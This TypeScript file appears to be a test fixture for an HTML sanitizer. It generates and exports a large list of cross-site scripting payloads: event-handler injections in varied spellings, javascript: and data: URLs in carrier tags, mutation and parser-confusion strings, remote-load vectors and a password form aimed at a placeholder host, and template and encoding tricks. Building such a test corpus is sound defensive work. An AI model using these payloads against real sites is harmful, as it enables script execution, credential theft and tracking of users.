/** HTML that wants to run a script, to load something from elsewhere or to lead away, by the ways in which browsers have been had. */

/** Whatever runs says so: a journey looks at who did. */
const run = 'tripped(1)'
const elsewhere = 'https://foreign.invalid/x'

const pairs = [
  ...[
    'img src=x onerror',
    'img src=x:x onerror',
    'image src=x onerror',
    'svg onload',
    'svg/onload',
    'body onload',
  ],
  ...['body onpageshow', 'iframe onload', 'iframe src=about:blank onload', 'input autofocus onfocus'],
  ...[
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'button autofocus onfocus',
    'a autofocus href onfocus',
  ],
  ...[
    'video src=x onerror',
    'video><source src=x onerror',
    'audio src=x onerror',
    'audio autoplay src=data:audio/wav, onerror',
  ],
  ...[
    'details open ontoggle',
    'marquee onstart',
    'marquee loop=1 onfinish',
    'object data=x onerror',
    'embed src=x onerror',
  ],
  ...[
    'link rel=stylesheet href=x onerror',
    'style onload',
    'script src=x onerror',
    'p tabindex=0 autofocus onfocus',
  ],
  ...[
    'p style=animation-name:x onanimationstart',
    'b style=transition:1s ontransitionend',
    'p onpointerenter',
  ],
  ...[
    'p onmouseover',
    'li onclick',
    'h3 oncontextmenu',
    'p contenteditable autofocus onfocus',
    'p onscrollsnapchange',
  ],
  ...[
    'ul onwheel',
    'em oncopy',
    'strong ondragstart',
    'i onbeforeinput',
    'p oncontentvisibilityautostatechange',
  ],
  ...[
    'div popover id=x onbeforetoggle',
    'svg><animate onbegin',
    'svg><set onbegin',
    'svg><image href=x onerror',
  ],
  ...[
    'svg><script href=x onerror',
    'math><mi onfocus tabindex=0 autofocus',
    'form onformdata',
    'track onerror src=x',
  ],
]

/** The same handler as it may be spelt. */
const spellings: ((pair: string) => string)[] = [
  (pair) => `<${pair}=${run}>`,
  (pair) => `<${pair}="${run}">`,
  (pair) => `<${pair.toUpperCase()}='${run}'`,
  (pair) => `<${pair.replaceAll(' ', '\n\t/')}\n=\n&#116;ripped&lpar;1&rpar;>`,
  (pair) => `"'>--></title></style></textarea></noscript><${pair}=${run}>`,
  (pair) => `<p><${pair.replaceAll(' ', '\u000c')}=${run}//</p>`,
]

const scriptUrls = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\nscript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `&#106;&#97;vascript:${run}`,
  `javascript://foreign.invalid/%0a${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `vbscript:${run}`,
  `blob:${elsewhere}`,
]

const carriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>a</button></form>`,
  (url) => `<button formaction="${url}" form=x>a</button>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>a</text></a></svg>`,
  (url) => `<math href="${url}"><mi>a</mi></math>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<p style="background:url('${url}')">a</p>`,
  (url) => `<svg><use href="${url}"></use></svg>`,
]

/** Read once, written down and read again they are something else. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><p><style><img src=x onerror=${run}></style></p></annotation-xml></math>`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
  `<svg><desc><table><tr><td><style></table><img src=x onerror=${run}>`,
  `<table><td><svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<template><template><img src=x onerror=${run}></template></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  `<title></title><img src=x onerror=${run}></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>--!>`,
  `<!--a--!><img src=x onerror=${run}>`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<?xml ><img src=x onerror=${run}>?>`,
  `</p/><img src=x onerror=${run}>`,
  `<b><p><b></p><img src=x onerror=${run}></b>`,
  `<p><table><p><img src=x onerror=${run}></table>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<p id="a" title='"><img src=x onerror=${run}>'>`,
  '<p title="`><img src=x onerror=tripped(1)>`">',
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<<img src=x onerror=${run}>>`,
  `<img """><script>${run}</script>">`,
  `<img src=x onerror\u0000=${run}>`,
  `<\u0000script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<scr\u00adipt>${run}</script>`,
  `<p><!-- --!> <script>${run}</script> --></p>`,
]

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<script src=data:,${run}></script>`,
  `<script src=${elsewhere}.js></script>`,
  `<script type=module>${run}</script>`,
  `<script type=importmap>{"imports":{"a":"${elsewhere}"}}</script>`,
  `<script>/*${'a'.repeat(2_000)}*/${run}</script>`,
  `<script>${run}`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script>&#116;ripped(1)</script></svg>`,
  `<svg><script xlink:href=data:,${run}></script></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text y=9>a</text></a></svg>`,
  `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<math><maction actiontype="statusline#${elsewhere}" xlink:href="javascript:${run}">a</maction></math>`,
]

const loads = [
  `<img src=${elsewhere}>`,
  `<img srcset="${elsewhere} 1x">`,
  `<picture><source srcset=${elsewhere}><img></picture>`,
  `<video poster=${elsewhere}></video>`,
  `<video src=${elsewhere}></video>`,
  `<audio autoplay src=${elsewhere}></audio>`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<link rel=prefetch href=${elsewhere}>`,
  `<link rel=preload as=image href=${elsewhere}>`,
  `<link rel=dns-prefetch href=//foreign.invalid>`,
  `<style>@import "${elsewhere}";</style>`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `<p style="background:url(${elsewhere})">a</p>`,
  `<p style="background-image:image-set('${elsewhere}' 1x)">a</p>`,
  `<ul style="list-style:url(${elsewhere})"><li>a</li></ul>`,
  `<table background=${elsewhere}><td>a</td></table>`,
  `<body background=${elsewhere}>`,
  `<input type=image src=${elsewhere}>`,
  `<iframe src=${elsewhere}></iframe>`,
  `<object data=${elsewhere}></object>`,
  `<svg><image href=${elsewhere} /></svg>`,
  `<svg><use href=${elsewhere}#x /></svg>`,
  `<svg><feImage href=${elsewhere} /></svg>`,
  `<a ping=${elsewhere} href=#>a</a>`,
  `<meta http-equiv=refresh content=0;url=${elsewhere}>`,
  `<form action=${elsewhere}><input name=password autofocus></form>`,
  `<base href=${elsewhere}>`,
  `<portal src=${elsewhere}></portal>`,
  `<fencedframe src=${elsewhere}></fencedframe>`,
]

/** For code that reads text as a template, as a style or as another alphabet. */
const others = [
  ...[
    '{{constructor.constructor("tripped(1)")()}}',
    '{{tripped(1)}}',
    '#{tripped(1)}',
    '<%= tripped(1) %>',
    '[[tripped(1)]]',
  ],
  ...[
    '$\\x7btripped(1)}',
    '{percentFail}{{tripped(1)}}',
    '{tripped, select, other {a}}',
    "{a, plural, =0{'",
    '{name',
    '}{',
  ],
  ...[
    '＜script＞tripped(1)＜/script＞',
    '<ſcript>tripped(1)</ſcript>',
    '<ımg src=x onerror=tripped(1)>',
    '%3Cscript%3Etripped(1)%3C/script%3E',
  ],
  ...[
    '\\u003cscript\\u003etripped(1)\\u003c/script\\u003e',
    '&lt;script&gt;tripped(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;tripped(1)',
  ],
  ...[
    '+ADw-script+AD4-tripped(1)+ADw-/script+AD4-',
    '\u202e>tpircs<',
    "';tripped(1);//",
    '";tripped(1);//',
    '`;tripped(1);//',
  ],
  ...[
    '</script><script>tripped(1)</script>',
    '--><script>tripped(1)</script>',
    ']]><script>tripped(1)</script>',
    '*/tripped(1)/*',
  ],
  ...[
    '<style>@keyframes x{}</style><p style=animation-name:x onanimationend=tripped(1)>',
    '<p style="x:expression(tripped(1))">',
  ],
  ...[
    '<p style="-moz-binding:url(x)">',
    '<p class="fixed inset-0 z-50">',
    '<p id=root>',
    '<form id=tripped>',
    '<a id=location name=x>',
  ],
  ...[
    '<img name=cookie>',
    '<iframe name=top>',
    '<p is=x-y>',
    '<x-y onclick=tripped(1)>',
    '<p slot=x part=y exportparts=z>',
  ],
  ...[
    'javascript:tripped(1)',
    'data:text/html,<script>tripped(1)</script>',
    '//foreign.invalid',
    'https:foreign.invalid',
  ],
]

const all = [
  ...spellings.flatMap((spell) => pairs.map(spell)),
  ...carriers.flatMap((carry) => scriptUrls.map(carry)),
  ...mutations,
  ...scripts,
  ...loads,
  ...others,
]

/** Mixed, so that the first few are of every kind. */
const stride = 67
export const hostileHtml: readonly string[] = all.map((_, index) => all[(index * stride) % all.length] ?? '')
